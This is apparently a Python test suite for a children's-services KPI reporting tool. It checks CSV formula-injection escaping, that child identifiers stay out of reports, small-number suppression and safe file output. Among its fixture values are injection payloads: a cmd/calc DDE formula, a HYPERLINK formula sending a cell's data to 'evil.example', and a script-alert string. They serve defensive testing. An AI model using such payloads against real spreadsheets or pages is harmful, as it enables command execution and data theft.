"""Safety of what sgkpi-report writes: CSV formula injection, no child
identifiers outside the exception lists, small-number suppression in every
format, exception lists, output written whole or not at all, and the
terminal niceties (colour, progress) only on a terminal."""
import csv
import io
import json
import os
import pty
import re
import select
import stat
import subprocess
import sys
import tempfile
import unittest

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import common  # noqa: E402

CHILD_ID = re.compile(r"ZQ\d{4}")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(data):
    if isinstance(data, bytes):
        data = data.decode("utf-8")
    if data.startswith("\ufeff"):
        data = data[1:]
    return list(csv.reader(io.StringIO(data, newline="")))


def hostile(*args, **kw):
    return common.run(*common.PERIOD, *args, "assessments.csv",
                      cwd=common.HOSTILE, **kw)


class FormulaInjection(unittest.TestCase):
    def test_csv_report_cells(self):
        proc = hostile("--format", "csv", "--by", "team", "--monthly",
                       "--thresholds", "thresholds.csv", text=False)
        self.assertTrue(proc.stdout.startswith(b"\xef\xbb\xbf"))
        self.assertIn(b"\r\n", proc.stdout)
        rows = csv_rows(proc.stdout)
        self.assertEqual(rows[0][:2], ["group", "key"])
        width = len(rows[0])
        for row in rows:
            self.assertEqual(len(row), width, row)
            for cell in row:
                self.assertFalse(cell.startswith(FORMULA_START), cell)
        keys = {r[1] for r in rows if r[0] == "team"}
        for want in ("'=cmd|' /C calc'!A0", "'-1", "'+44 team",
                     "'@SUM(A1)", "Comma, Team", "\"&'",
                     "<script>alert(1)</script>", "Ünïcödé team ✓"):
            self.assertIn(want, keys)
        sources = {r[12] for r in rows if r[0] == "total" and r[12]}
        self.assertEqual(sources, {"'=1+1 <b>src</b>", "'-IN 3"})

    def test_exception_lists(self):
        with tempfile.TemporaryDirectory() as tmp:
            out = os.path.join(tmp, "lists")
            hostile("--exceptions", out, "--quiet")
            names = sorted(os.listdir(out))
            self.assertIn("ia_overdue.csv", names)
            seen = set()
            for name in names:
                with open(os.path.join(out, name), "rb") as f:
                    rows = csv_rows(f.read())
                for row in rows[1:]:
                    for cell in row:
                        self.assertFalse(cell.startswith(FORMULA_START),
                                         (name, cell))
                    seen.add(row[0])
                    seen.add(row[5])
            self.assertIn("'=HX9007", seen)
            self.assertIn("'=HYPERLINK(\"evil.example/?x=\"&A1)", seen)
            self.assertIn("'+SUM(1)", seen)
            self.assertIn("'@worker", seen)

    def test_text_has_no_control_characters(self):
        out = hostile("--by", "team").stdout
        self.assertIsNone(re.search(r"[\x00-\x08\x0b-\x1f\x7f]", out))


class Privacy(unittest.TestCase):
    """No fixture child id anywhere unless --exceptions was given, and then
    only in the exceptions directory."""

    def test_no_child_ids_in_reports(self):
        for fmt in ("text", "json", "csv", "html"):
            for extra in ([], ["--by", "team", "--monthly"]):
                proc = common.report("--format", fmt, *common.TARGETS,
                                     *extra)
                self.assertIsNone(CHILD_ID.search(proc.stdout), (fmt, extra))
                self.assertIsNone(CHILD_ID.search(proc.stderr), (fmt, extra))

    def test_exceptions_only_in_their_directory(self):
        with tempfile.TemporaryDirectory() as tmp:
            lists = os.path.join(tmp, "lists")
            for fmt in ("text", "json", "csv", "html"):
                out = os.path.join(tmp, "report." + fmt)
                proc = common.report("--format", fmt, *common.TARGETS,
                                     "--by", "team", "--monthly",
                                     "--exceptions", lists, "--output", out)
                self.assertEqual(proc.stdout, "")
                self.assertIsNone(CHILD_ID.search(proc.stderr))
                self.assertIn("with child identifiers", proc.stderr)
                with open(out, encoding="utf-8") as f:
                    body = f.read()
                self.assertIsNone(CHILD_ID.search(body), fmt)
                if fmt != "csv":
                    self.assertIn("lists", body)
            found = set()
            for name in os.listdir(lists):
                path = os.path.join(lists, name)
                self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o600)
                with open(path, encoding="utf-8-sig") as f:
                    found |= set(CHILD_ID.findall(f.read()))
            self.assertIn("ZQ4110", found)
            self.assertEqual(
                stat.S_IMODE(os.stat(lists).st_mode) & 0o077, 0)


class ExceptionLists(unittest.TestCase):
    def lists(self, tmp, *extra):
        out = os.path.join(tmp, "x")
        proc = common.report("--exceptions", out, "--format", "json",
                             *extra)
        got = {}
        for name in sorted(os.listdir(out)):
            with open(os.path.join(out, name), "rb") as f:
                got[name] = csv_rows(f.read())
        return got, json.loads(proc.stdout), out

    def test_contents_most_urgent_first(self):
        with tempfile.TemporaryDirectory() as tmp:
            got, doc, _ = self.lists(tmp)
        header = ["child_id", "indicator", "date", "days", "team", "worker",
                  "input", "line"]
        want = {
            "ia_overdue.csv": [("ZQ4106", "2021-06-01", "21", "North")],
            "ca_overdue.csv": [("ZQ4110", "2021-03-01", "83", "East")],
            "sa_overdue.csv": [("ZQ4112", "2021-04-06", "59", "North"),
                               ("ZQ4111", "2021-04-12", "55", "South")],
            "ia_completed_late.csv": [("ZQ4104", "2021-05-17", "11", "South"),
                                      ("ZQ4102", "2021-04-12", "8", "North")],
            "ca_completed_late.csv": [("ZQ4108", "2021-04-01", "38",
                                       "South")],
            "unallocated_over_28_days.csv": [
                ("ZQ5203", "2021-03-01", "121", "East"),
                ("ZQ5201", "2021-05-01", "60", "North")],
            "unallocated_cp_cla.csv": [
                ("ZQ5203", "2021-03-01", "121", "East"),
                ("ZQ5202", "2021-06-10", "20", "South")],
            "cp_open_2_years_plus.csv": [("ZQ6301", "2019-03-01", "852",
                                          "North")],
        }
        self.assertEqual(sorted(got), sorted(want))
        for name, rows in got.items():
            self.assertEqual(rows[0], header, name)
            self.assertEqual([(r[0], r[2], r[3], r[4]) for r in rows[1:]],
                             want[name], name)
            for r in rows[1:]:
                self.assertEqual(r[1], name[:-4])
        self.assertEqual(got["ca_overdue.csv"][1][6:], ["assessments.csv",
                                                        "11"])
        files = {f["file"]: f["rows"] for f in
                 doc["exception_lists"]["files"]}
        self.assertEqual(files, {k: len(v) for k, v in want.items()})

    def test_stale_lists_removed_others_kept(self):
        with tempfile.TemporaryDirectory() as tmp:
            out = os.path.join(tmp, "x")
            os.mkdir(out)
            ours = "\ufeffchild_id,indicator,date,days,team,worker,input," \
                   "line\r\nOLD1,sa_completed_late,,,,,,\r\n"
            with open(os.path.join(out, "sa_completed_late.csv"), "w",
                      encoding="utf-8", newline="") as f:
                f.write(ours)
            with open(os.path.join(out, "notes.csv"), "w") as f:
                f.write("keep me\n")
            with open(os.path.join(out, "ia_timeliness.csv"), "w") as f:
                f.write("not ours\n")
            got, _, _ = self.lists(tmp)
            left = sorted(os.listdir(out))
        self.assertNotIn("sa_completed_late.csv", left)
        self.assertIn("notes.csv", left)
        self.assertIn("ia_timeliness.csv", left)
        self.assertNotIn("sa_completed_late.csv", got)

    def test_text_and_html_say_where(self):
        with tempfile.TemporaryDirectory() as tmp:
            out = os.path.join(tmp, "lists")
            text = common.report("--exceptions", out).stdout
            self.assertIn("Exception lists", text)
            self.assertIn(out, text)
            self.assertIn("ca_overdue", text)
            page = common.report("--exceptions", out, "--format",
                                 "html").stdout
            self.assertIn("Case-level exception", page)
            self.assertIn("ca_overdue.csv</code>: Open core assessments out of timescale, 1 record<", page)

    def test_not_a_directory(self):
        with tempfile.NamedTemporaryFile() as f:
            proc = common.report("--exceptions", f.name, check=False)
        self.assertEqual(proc.returncode, 2)
        self.assertIn("not a directory", proc.stderr)


class Suppression(unittest.TestCase):
    def test_same_cells_in_every_format(self):
        args = (*common.TARGETS, "--by", "team", "--suppress", "2")
        doc = json.loads(common.report("--format", "json", *args).stdout)
        rows = csv_rows(common.report("--format", "csv", *args).stdout)
        csv_total = {r[2]: r for r in rows if r[0] == "total"}
        csv_team = {(r[2], r[1]): r for r in rows if r[0] == "team"}
        page = common.parse_html(common.report("--format", "html",
                                               *args).stdout)
        html_rows = {r[0]: r for r in page.rows if len(r) >= 5}
        text = common.report("--format", "text", *args).stdout
        n_c = 0
        for ind in doc["indicators"]:
            hidden = ind["value"] == "c"
            n_c += hidden
            self.assertEqual(csv_total[ind["id"]][5] == "c", hidden)
            self.assertEqual(html_rows[ind["label"]][1] == "c", hidden)
            line = next(ln for ln in text.splitlines()
                        if ln.startswith(ind["label"]))
            self.assertEqual(line.split()[len(ind["label"].split())] == "c",
                             hidden, line)
            for t in ind["by_team"]:
                if (ind["id"], t["team"]) not in csv_team:
                    # A breakdown the indicator does not have: no CSV row.
                    self.assertIsNone(t["numerator"])
                    continue
                self.assertEqual(csv_team[(ind["id"], t["team"])][5] == "c",
                                 t["value"] == "c")
                if t["value"] == "c":
                    self.assertEqual(t["numerator"], "c")
        # 14, caseload_mean and _max (1 case) and cla_placements_3plus
        # 0/1 (data/README.md).
        self.assertEqual(n_c, 17)
        # ia_timeliness 3/5 is above the threshold; the zeros stay.
        ia = doc["indicators"][0]
        self.assertEqual((ia["numerator"], ia["denominator"]), (3, 5))
        self.assertEqual(doc["suppression"], {"up_to": 2, "marker": "c"})

    def test_exception_list_lengths_are_suppressed(self):
        # A list's length is a figure (a numerator, or what was missed), so
        # a small one must not undo the suppression of that figure.
        with tempfile.TemporaryDirectory() as tmp:
            lists = os.path.join(tmp, "lists")
            args = ("--exceptions", lists, "--suppress", "5", "--quiet")
            doc = json.loads(common.report("--format", "json",
                                           *args).stdout)
            files = doc["exception_lists"]["files"]
            text = common.report("--format", "text", *args).stdout
            page = common.report("--format", "html", *args).stdout
            for f in files:
                with open(os.path.join(lists, f["file"]),
                          encoding="utf-8-sig") as fh:
                    n = sum(1 for _ in csv.reader(fh)) - 1
                small = 1 <= n <= 5
                self.assertEqual(f["rows"], "c" if small else n, f)
                line = next(ln for ln in text.splitlines()
                            if ln.split()[:1] == [f["indicator"]])
                self.assertEqual(line.split()[1], "c" if small else str(n))
                self.assertIn(f"{f['indicator']}.csv</code>: ", page)
            self.assertTrue(any(f["rows"] == "c" for f in files))
            self.assertNotRegex(page, r"</code>: [^<]*, [1-5] records?</li>")

    def test_no_numbers_leak_from_charts(self):
        page = common.report("--format", "html", "--by", "team", "--monthly",
                             "--suppress", "5").stdout
        p = common.parse_html(page)
        for svg in p.svgs:
            # Every figure here is 1..5 or a percentage built on them.
            self.assertNotRegex(svg["desc"], r": [1-9]\d*(\.\d)?%?[;.]")

    def test_off_by_default(self):
        doc = json.loads(common.report("--format", "json").stdout)
        self.assertNotIn("suppression", doc)
        self.assertNotIn("exception_lists", doc)

    def test_bad_value(self):
        proc = common.report("--suppress", "x", check=False)
        self.assertEqual(proc.returncode, 2)


class OutputFiles(unittest.TestCase):
    def test_written_whole_and_no_temp_left(self):
        with tempfile.TemporaryDirectory() as tmp:
            out = os.path.join(tmp, "report.html")
            proc = common.report("--output", out)
            self.assertEqual(proc.stdout, "")
            self.assertEqual(os.listdir(tmp), ["report.html"])
            with open(out, encoding="utf-8") as f:
                self.assertTrue(f.read().rstrip().endswith("</html>"))

    def test_failed_run_keeps_old_file(self):
        with tempfile.TemporaryDirectory() as tmp:
            out = os.path.join(tmp, "report.txt")
            with open(out, "w") as f:
                f.write("previous report\n")
            proc = common.run(*common.PERIOD, "--output", out,
                              "missing.csv", check=False)
            self.assertEqual(proc.returncode, 2)
            self.assertIn("missing.csv", proc.stderr)
            with open(out) as f:
                self.assertEqual(f.read(), "previous report\n")
            self.assertEqual(os.listdir(tmp), ["report.txt"])

    def test_unwritable_directory(self):
        proc = common.report("--output", "/nonexistent/dir/r.txt",
                             check=False)
        self.assertEqual(proc.returncode, 2)
        self.assertIn("/nonexistent/dir/r.txt", proc.stderr)

    def test_format_from_name(self):
        with tempfile.TemporaryDirectory() as tmp:
            for name, start in (("r.html", "<!DOCTYPE html>"),
                                ("r.csv", "\ufeffgroup,key"),
                                ("r.json", "{"), ("r.txt", "sgkpi ")):
                path = os.path.join(tmp, name)
                common.report("--output", path)
                with open(path, encoding="utf-8") as f:
                    self.assertTrue(f.read().startswith(start), name)


def on_terminal(args, stream, no_color=True, cwd=common.DATA):
    """Runs with stdout or stderr on a pseudo-terminal; returns the exit
    status and what the terminal got."""
    master, slave = pty.openpty()
    kw = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
    kw[stream] = slave
    e = common.env(no_color)
    proc = subprocess.Popen([common.REPORT, *args], cwd=cwd, env=e,
                            stdin=subprocess.DEVNULL, **kw)
    os.close(slave)
    got = b""
    while True:
        r, _, _ = select.select([master], [], [], 10)
        if not r:
            break
        try:
            chunk = os.read(master, 65536)
        except OSError:
            break
        if not chunk:
            break
        got += chunk
    proc.communicate(timeout=30)
    os.close(master)
    return proc.returncode, got


class Terminal(unittest.TestCase):
    def test_colour_only_on_a_terminal(self):
        args = [*common.PERIOD, *common.TARGETS, *common.EXTRACTS]
        rc, got = on_terminal(args, "stdout", no_color=False)
        self.assertEqual(rc, 0)
        self.assertIn(b"\x1b[1;31mNOT MET\x1b[0m", got)
        rc, got = on_terminal(args, "stdout", no_color=True)
        self.assertNotIn(b"\x1b[", got)
        self.assertNotIn("\x1b[", common.report(
            *common.TARGETS, env=common.env(no_color=False)).stdout)

    def test_progress_bar(self):
        with tempfile.TemporaryDirectory() as tmp:
            big = os.path.join(tmp, "big.csv")
            with open(big, "w") as f:
                f.write("child_id,assessment_type,start_date,"
                        "completion_date,team\n")
                row = "ZQ%07d,initial,2021-04-06,2021-04-14,North\n"
                for i in range(50000):
                    f.write(row % i)
            args = [*common.PERIOD, big]
            rc, got = on_terminal(args, "stderr", cwd=tmp)
            self.assertEqual(rc, 0)
            self.assertIn(b"MB/s", got)
            self.assertIn(b"big.csv", got)
            self.assertTrue(got.endswith(b"\r\x1b[K"), got[-40:])
            rc, got = on_terminal(["--quiet", *args], "stderr", cwd=tmp)
            self.assertEqual(got, b"")
            proc = common.run(*args, cwd=tmp)
            self.assertEqual(proc.stderr, "")
        # Small inputs: no bar even on a terminal.
        rc, got = on_terminal([*common.PERIOD, *common.EXTRACTS], "stderr")
        self.assertEqual(got, b"")


class Documentation(unittest.TestCase):
    OPTIONS = ["--from", "--to", "--thresholds", "--benchmarks",
               "--holidays", "--delimiter", "--by", "--monthly", "--format",
               "--output", "--suppress", "--exceptions", "--max-rejections",
               "--fail-on-breach", "--quiet", "--version", "--help"]

    def test_help_lists_every_option(self):
        out = common.run("--help").stdout
        for opt in self.OPTIONS:
            self.assertIn(opt, out)
        self.assertIn("example", out)
        self.assertIn("--format html", out)

    def test_man_page(self):
        man = os.path.join(common.HERE, "..", "..", "examples",
                           "sgkpi-report.1")
        with open(man, encoding="utf-8") as f:
            text = f.read().replace("\\-", "-")
        self.assertTrue(text.startswith(".TH") or ".TH " in text)
        for opt in self.OPTIONS:
            self.assertIn(opt, text)


if __name__ == "__main__":
    common.main()
